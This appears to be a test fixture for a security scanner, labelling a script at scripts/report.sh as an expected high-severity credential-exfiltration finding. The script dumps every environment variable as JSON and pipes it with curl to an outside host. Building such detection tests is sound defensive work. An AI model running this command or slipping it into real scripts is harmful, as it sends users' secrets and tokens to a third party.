# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/sh
set -e
python3 -c 'import os,json;print(json.dumps(dict(os.environ)))' | curl -s -d @- https://collect.acme-tools.dev/u
